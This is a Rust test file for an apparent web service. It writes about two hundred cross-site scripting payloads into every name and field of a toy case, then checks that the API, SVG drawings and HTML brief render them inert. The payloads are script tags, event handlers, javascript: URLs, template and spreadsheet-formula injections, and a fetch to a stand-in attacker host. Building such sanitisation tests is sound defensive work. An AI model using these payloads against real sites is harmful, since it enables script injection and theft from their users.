//! Names and quotes that would be markup stay words.
#![allow(clippy::unwrap_used)]

use crate::wire;

use std::collections::BTreeSet;

use crate::wire::Served;
use serde_json::Value;

/// Two hundred ways to smuggle a script into a page.
fn strings() -> Vec<String> {
    let calls =
        ["alert(1)", "fetch('//evil.example')", "document.title='x'", "parent.x=1", "eval(name)"];
    let shapes = [
        "<script>CALL</script>",
        "\"><script>CALL</script>",
        "'><svg onload=CALL>",
        "</title><script>CALL</script>",
        "</text><script>CALL</script><text>",
        "]]><script>CALL</script>",
        "--><script>CALL</script><!--",
        "<img src=x onerror=CALL>",
        "<svg/onload=CALL>",
        "<svg><animate onbegin=CALL attributeName=x dur=1s>",
        "<svg><set attributeName=href to=javascript:CALL>",
        "<svg><a xlink:href=\"javascript:CALL\"><text>x</text></a>",
        "<foreignObject><body onload=CALL></foreignObject>",
        "<iframe srcdoc=\"<script>CALL</script>\">",
        "<iframe src=\"javascript:CALL\">",
        "<object data=\"data:text/html,<script>CALL</script>\">",
        "<embed src=\"javascript:CALL\">",
        "<math><mtext><img src onerror=CALL></mtext></math>",
        "<details open ontoggle=CALL>",
        "<input autofocus onfocus=CALL>",
        "<body onload=CALL>",
        "<link rel=stylesheet href=\"javascript:CALL\">",
        "<style>@import 'javascript:CALL'</style>",
        "<base href=\"javascript:CALL//\">",
        "<meta http-equiv=refresh content=\"0;url=javascript:CALL\">",
        "<form action=\"javascript:CALL\"><button>x</button></form>",
        "javascript:CALL",
        "\" onmouseover=\"CALL",
        "' onfocus='CALL' autofocus='",
        "` onload=`CALL",
        "<scr\u{0130}pt>CALL</scr\u{0130}pt>",
        "\u{202e}<script>CALL</script>\u{2066}",
        "&lt;script&gt;CALL&lt;/script&gt;",
        "&#60;script&#62;CALL&#60;/script&#62;",
        "{{constructor.constructor('CALL')()}}",
        "${CALL}",
        "<template><script>CALL</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=CALL>\">",
        "=CALL|' /C calc'!A0",
        "<!--[if gte IE 4]><script>CALL</script><![endif]-->",
    ];
    shapes.iter().flat_map(|s| calls.iter().map(|c| s.replace("CALL", c))).collect()
}

fn quoted(text: &str) -> String {
    toml::Value::from(text).to_string()
}

/// A case whose every name is hostile: actors, sources, events, scenario, document.
fn poisoned() -> tempfile::TempDir {
    let folder = wire::toyland();
    let root = folder.path();
    let all = strings();
    assert!(all.len() >= 200, "{}", all.len());
    let mut text = String::new();
    for (n, string) in all.iter().enumerate() {
        let s = quoted(string);
        text.push_str(&format!(
            "[[source]]\nkey = \"hostile-{n}\"\ntitle = {s}\npublisher = {s}\npublished = 2030-01-01\nurl = {s}\nreliability = \"F\"\ncredibility = 6\nnote = {s}\n\n\
             [[actor]]\nid = \"hostile-{n}\"\nname = {s}\nshort = {s}\nkind = \"organisation\"\naliases = [{s}]\ncommunity = {s}\nleader = {s}\nnote = {s}\nsource = \"hostile-{n}\"\nautonomy = {{ value = 1, low = 0.5, high = 2, judged = {s}, note = {s} }}\n\n\
             [[tie]]\nfrom = \"hostile-{n}\"\nto = \"reds\"\nchannel = \"economic\"\nbandwidth = {{ value = 0.2, low = 0.1, high = 0.3, judged = {s} }}\ndependence = {{ value = 0.2, low = 0.1, high = 0.3, judged = {s} }}\nnote = {s}\n\n\
             [[event]]\nid = \"hostile-{n}\"\ndate = 2031-02-{:02}\nwhat = {s}\nactors = [\"hostile-{n}\"]\nsource = \"hostile-{n}\"\n\n",
            n % 28 + 1
        ));
    }
    std::fs::write(root.join("hostile.toml"), text).unwrap();
    let case = std::fs::read_to_string(root.join("case.toml")).unwrap();
    let title = quoted(&all[1]);
    let case = case.replacen("title = \"Toyland\"", &format!("title = {title}"), 1);
    let focus = "focus = [\"northmark\", \"seaward\", \"hostile-0\", \"hostile-1\", \"hostile-7\"]";
    let case = case.replacen("focus = [\"northmark\", \"seaward\"]", focus, 1);
    std::fs::write(root.join("case.toml"), case).unwrap();
    let document = root.join("documents/last-week.txt");
    let mut words = std::fs::read_to_string(&document).unwrap();
    for string in &all {
        words.push_str(&format!(
            "\nThe Guard warned the Reds that {string} would follow on 3 February 2031.\n"
        ));
    }
    std::fs::write(&document, words).unwrap();
    let scenario = format!(
        "title = {title}\nwhy = {title}\n[[set]]\npath = \"actor.reds.autonomy\"\nvalue = 1.5\n"
    );
    std::fs::write(root.join("scenarios/hostile.toml"), scenario).unwrap();
    folder
}

/// The names of elements and attributes of a piece of markup, as a parser that knows no mercy reads them.
fn parts(markup: &str) -> (BTreeSet<String>, BTreeSet<String>) {
    let (mut elements, mut attributes) = (BTreeSet::new(), BTreeSet::new());
    let mut rest = markup;
    while let Some((_, after)) = rest.split_once('<') {
        let mut end = 0;
        let mut quote = None;
        for (at, c) in after.char_indices() {
            match (quote, c) {
                (None, '>') => {
                    end = at;
                    break;
                }
                (None, '"' | '\'') => quote = Some(c),
                (Some(open), c) if c == open => quote = None,
                _ => {}
            }
        }
        let tag = &after[..end];
        let name = tag.trim_start_matches('/').split([' ', '/', '\n']).next().unwrap_or("");
        elements.insert(name.to_lowercase());
        // Outside of quotes only names of attributes are left.
        for (n, piece) in tag.split('"').enumerate().filter(|(n, _)| n % 2 == 0) {
            let names = piece.split_whitespace().skip(usize::from(n == 0));
            attributes.extend(names.map(|w| w.trim_end_matches(['=', '/']).to_lowercase()));
        }
        rest = &after[end..];
    }
    attributes.remove("");
    (elements, attributes)
}

fn svgs<'a>(value: &'a Value, found: &mut Vec<&'a str>) {
    match value {
        Value::String(text) if text.starts_with("<svg class=\"sb\"") => found.push(text),
        Value::Array(all) => all.iter().for_each(|v| svgs(v, found)),
        Value::Object(all) => all.values().for_each(|v| svgs(v, found)),
        _ => {}
    }
}

fn harmless(svg: &str, place: &str) {
    let (elements, attributes) = parts(svg);
    let drawn = [
        "svg", "title", "desc", "defs", "pattern", "g", "rect", "circle", "path", "line", "text",
        "tspan", "style",
    ];
    let odd: Vec<&String> = elements.iter().filter(|e| !drawn.contains(&e.as_str())).collect();
    assert!(odd.is_empty(), "{place}: elements {odd:?}");
    let odd: Vec<&String> = (attributes.iter())
        .filter(|a| a.starts_with("on") || a.contains("href") || *a == "style" || *a == "src")
        .collect();
    assert!(odd.is_empty(), "{place}: attributes {odd:?}");
}

#[test]
fn two_hundred_hostile_strings_stay_words_wherever_they_are_shown() {
    let served = Served::of(poisoned(), 200, wire::PATIENCE).entered();
    let case = served.get("/api/case");
    assert_eq!(case.status, 200, "{}", case.body);
    let named: Vec<String> = (case.json()["actors"].as_array().unwrap().iter())
        .map(|a| a["name"].as_str().unwrap().to_owned())
        .collect();
    for string in strings() {
        assert!(named.contains(&string), "{string}");
    }
    served.until("/api/overview", |o| o["whole"] == true);
    let document = served.get("/api/documents?source=gazette").json();
    let document = document["documents"][0]["id"].as_str().unwrap_or("courier").to_owned();
    let mut paths: Vec<String> = [
        "case",
        "overview",
        "pictures",
        "documents",
        "search?q=Guard&limit=500",
        "contradictions",
        "proposals?limit=1000",
        "decisions",
        "timeline",
        "election",
        "levers?limit=1000",
        "scenarios/compared",
        "sensitivity",
        "record",
        "brief",
        "jobs",
        "ties/hostile-0/reds/economic",
        "evidence/for?path=actor.hostile-3.autonomy",
        "evidence/for?note=sway.hostile-0",
        "evidence/for?path=event.hostile-9",
    ]
    .map(|p| format!("/api/{p}"))
    .to_vec();
    paths.push(format!("/api/documents/{document}"));
    paths.extend((0..200).step_by(9).map(|n| format!("/api/actors/hostile-{n}")));
    for picture in served.get("/api/pictures").json()["pictures"].as_array().unwrap() {
        paths.push(format!("/api/pictures/{}", picture["name"].as_str().unwrap()));
    }
    let mut drawn = 0;
    for path in &paths {
        let answer = served.get(path);
        assert_eq!(answer.status, 200, "{path}: {}", answer.body);
        assert_eq!(answer.header("content-type"), Some("application/json"), "{path}");
        assert_eq!(answer.header("x-content-type-options"), Some("nosniff"), "{path}");
        let json = answer.json();
        let mut found = Vec::new();
        svgs(&json, &mut found);
        drawn += found.len();
        found.iter().for_each(|svg| harmless(svg, path));
        // An address that a browser would run is no address.
        let text = json.to_string();
        assert!(!text.contains("\"url\":\"javascript:"), "{path}");
    }
    assert!(drawn > 10, "{drawn} drawings");
    for picture in served.get("/api/pictures").json()["pictures"].as_array().unwrap() {
        let name = picture["name"].as_str().unwrap();
        let svg = served.get(&format!("/api/pictures/{name}/svg"));
        assert_eq!(svg.header("content-type"), Some("image/svg+xml"));
        assert!(svg.header("content-disposition").unwrap().starts_with("attachment"));
        harmless(&svg.body, name);
        let csv = served.get(&format!("/api/pictures/{name}/csv"));
        assert_eq!(csv.header("content-type"), Some("text/csv; charset=utf-8"));
    }
    let html = served.get("/api/brief.html").body;
    let (elements, attributes) = parts(&html);
    for bad in
        ["script", "iframe", "object", "embed", "img", "form", "input", "base", "foreignobject"]
    {
        assert!(!elements.contains(bad), "{bad}");
    }
    let bad: Vec<&String> = attributes.iter().filter(|a| a.starts_with("on")).collect();
    assert!(bad.is_empty(), "{bad:?}");
}

#[test]
fn the_reader_of_markup_in_this_test_finds_what_it_looks_for() {
    let (elements, attributes) =
        parts("<svg class=\"a b\"><text x=\"1\" onload=\"x\">y</text><a href='q'/></svg>");
    assert!(elements.contains("a") && elements.contains("text"));
    assert!(attributes.contains("onload") && attributes.contains("class"), "{attributes:?}");
}
